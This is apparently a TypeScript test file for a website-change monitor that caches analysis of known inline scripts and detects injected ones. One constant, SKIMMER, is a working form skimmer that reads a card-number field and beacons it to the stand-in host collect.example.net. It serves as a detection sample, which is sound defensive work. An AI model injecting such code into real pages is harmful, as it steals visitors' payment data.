import { describe, expect, it } from 'vitest';
import { analysePage } from './analyse.ts';
import { assess } from './assess.ts';
import { learn } from './learn.ts';
import { SCRIPT_SAMPLE } from './model-tags.ts';
import { hashText } from './text.ts';
import {
  MAX_KNOWN_FACTS,
  MAX_KNOWN_SCRIPTS,
  SCRIPT_FACTS_VERSION,
  type KnownScript,
  type KnownScripts,
  type ScriptDigest,
} from './known-scripts.ts';

const URL_ = 'https://www.city.example.jp/news/';
/**
 * The test's digest: the text itself, tagged, which no two texts share (the analysis layer gives
 * SHA-256, which core may not import; src/analysis/run-job.test.ts checks that one).
 */
const exact: ScriptDigest = (t) => `text:${t}`;

const SKIMMER =
  "document.querySelector('form').addEventListener('submit', function(){ var v = document.getElementById('cc_number').value; navigator.sendBeacon('https://collect.example.net/c', v); });";
const page = (...scripts: string[]): string =>
  `<html lang="en"><head><title>News</title>${scripts.map((s) => `<script>${s}</script>`).join('')}</head><body><p>Latest notices from the ward office.</p></body></html>`;

/** A baseline entry for `source` claiming facts analysis would never find in it. */
function planted(digest: string): KnownScript {
  return { digest, shape: 'planted-shape', key: 'script-inline||planted', features: ['planted'], urls: [] };
}
const knownAs = (...scripts: KnownScript[]): KnownScripts => ({ version: SCRIPT_FACTS_VERSION, scripts });

describe('known scripts: analysis takes a known script facts from the baseline', () => {
  it('reuses the facts of a script whose digest the baseline holds, without reading it', () => {
    const model = analysePage(page(SKIMMER), URL_, {
      scriptDigest: exact,
      knownScripts: knownAs(planted(exact(SKIMMER))),
    });
    const [script] = model.scripts;
    // Had the script been read, its features would be the skimmer's, not the planted ones.
    expect(script?.features).toEqual(['planted']);
    expect(script?.inlineShapeHash).toBe('planted-shape');
    expect(model.activeContent?.find((i) => i.kind === 'script-inline')?.key).toBe('script-inline||planted');
  });

  it('reads a script whose weak hash (cyrb53) the baseline holds but whose digest differs', () => {
    // An entry keyed by the script's cyrb53, as a page's author could forge for an injected script:
    // the lookup is by the caller's digest only, so it is never consulted.
    const model = analysePage(page(SKIMMER), URL_, {
      scriptDigest: exact,
      knownScripts: knownAs(planted(hashText(SKIMMER))),
    });
    expect(model.scripts[0]?.features).toEqual(expect.arrayContaining(['reads-fields', 'sink-beacon']));
    expect(model.scripts[0]?.features).not.toContain('planted');
  });

  it('reads a script that shares a known one shape hash (digits folded) but not its digest', () => {
    const known = 'var ward = 1; trackVisit(ward);';
    const other = 'var ward = 2; trackVisit(ward);';
    const model = analysePage(page(other), URL_, { scriptDigest: exact, knownScripts: knownAs(planted(exact(known))) });
    expect(model.scripts[0]?.features).toEqual([]);
    expect(model.scripts[0]?.inlineShapeHash).toBe(analysePage(page(known), URL_).scripts[0]?.inlineShapeHash);
  });

  it('ignores known scripts computed by other code (another facts version)', () => {
    const model = analysePage(page(SKIMMER), URL_, {
      scriptDigest: exact,
      knownScripts: { version: 'older', scripts: [planted(exact(SKIMMER))] },
    });
    expect(model.scripts[0]?.features).toContain('sink-beacon');
  });

  it('uses no known script without a digest function, and marks no script with a digest', () => {
    const model = analysePage(page(SKIMMER), URL_, { knownScripts: knownAs(planted(exact(SKIMMER))) });
    expect(model.scripts[0]?.features).toContain('sink-beacon');
    expect(model.scripts[0]?.digest).toBeUndefined();
  });

  it('keys a sampled script by its digest and its full length', () => {
    const long = (middle: string): string => `var a = 1;${' '.repeat(SCRIPT_SAMPLE * 2)}${middle}var b = 2;`;
    const digests: string[] = [];
    const spy: ScriptDigest = (t) => {
      digests.push(t);
      return exact(t);
    };
    const model = analysePage(page(long('x')), URL_, { scriptDigest: spy });
    expect(digests[0]?.length).toBe(SCRIPT_SAMPLE * 2 + 1);
    expect(model.scripts[0]?.digest).toBe(`${exact(digests[0] ?? '')}|${long('x').length}`);
    // Same head and tail, another length: another key, so the length in the shape hash is never taken on trust.
    expect(analysePage(page(long('xy')), URL_, { scriptDigest: exact }).scripts[0]?.digest).not.toBe(
      model.scripts[0]?.digest,
    );
  });
});

describe('known scripts: learning remembers what analysis found', () => {
  it('stores each inline script facts under its digest, and a page analysed with them is the same model', () => {
    const html = page(SKIMMER, 'window.dataLayer = window.dataLayer || [];');
    const first = analysePage(html, URL_, { scriptDigest: exact });
    const b = learn(null, first);
    expect(b.knownScripts?.version).toBe(SCRIPT_FACTS_VERSION);
    expect(b.knownScripts?.scripts.map((s) => s.digest)).toEqual([
      exact(SKIMMER),
      exact(first.scripts[1]?.snippet ?? ''),
    ]);
    expect(b.knownScripts?.scripts[0]).toMatchObject({
      shape: first.scripts[0]?.inlineShapeHash,
      features: first.scripts[0]?.features,
      urls: first.scripts[0]?.urls,
      key: first.activeContent?.find((i) => i.kind === 'script-inline')?.key,
    });
    const again = analysePage(html, URL_, { scriptDigest: exact, knownScripts: b.knownScripts });
    expect(again).toEqual(first);
  });

  it('does not remember a script whose addresses are too long to keep, so a page cannot bloat its baseline', () => {
    const long = `fetch('https://collect.example.net/${'a'.repeat(MAX_KNOWN_FACTS)}');`;
    const b = learn(null, analysePage(page(long, 'var ok = 1;'), URL_, { scriptDigest: exact }));
    expect(b.knownScripts?.scripts.map((s) => s.digest)).toEqual([exact('var ok = 1;')]);
  });

  it('adds nothing to baselines learnt without a digest', () => {
    expect(learn(null, analysePage(page(SKIMMER), URL_)).knownScripts).toBeUndefined();
  });

  it('keeps only the scripts of the last benign observation, so scripts that churn do not pile up', () => {
    const scripts = Array.from({ length: MAX_KNOWN_SCRIPTS + 5 }, (_, i) => `track(${JSON.stringify(`page-${i}`)});`);
    let b = learn(null, analysePage(page(...scripts), URL_, { scriptDigest: exact }));
    let digests = b.knownScripts?.scripts.map((s) => s.digest) ?? [];
    expect(digests).toHaveLength(MAX_KNOWN_SCRIPTS);
    expect(digests.at(-1)).toBe(exact(scripts.at(-1) ?? ''));
    for (const nonce of ['a1', 'b2', 'c3']) {
      const churning = `var csrf = ${JSON.stringify(nonce)};`;
      b = learn(b, analysePage(page(scripts[0] ?? '', churning), URL_, { scriptDigest: exact }));
    }
    digests = b.knownScripts?.scripts.map((s) => s.digest) ?? [];
    expect(digests).toEqual([exact(scripts[0] ?? ''), exact('var csrf = "c3";')]);
  });

  it('flows through assess: the next observation reads only the scripts the baseline does not know', () => {
    const seen: string[] = [];
    const spy: ScriptDigest = (t) => {
      seen.push(t);
      return exact(t);
    };
    const obs = (html: string) => ({
      kind: 'page' as const,
      requestedUrl: URL_,
      finalUrl: URL_,
      html,
      sameBodyAsLast: false,
    });
    const first = assess(
      obs(page('var known = true;')),
      { baseline: null, previous: null },
      { minSamples: 3, scriptDigest: spy },
    );
    expect(first.baseline?.knownScripts?.scripts).toHaveLength(1);
    const next = assess(
      obs(page('var known = true;', SKIMMER)),
      { baseline: first.baseline ?? null, previous: first.verdict },
      { minSamples: 3, scriptDigest: spy },
    );
    expect(next.model?.scripts.map((s) => s.features.includes('sink-beacon'))).toEqual([false, true]);
    expect(seen).toEqual(['var known = true;', 'var known = true;', SKIMMER]);
  });
});
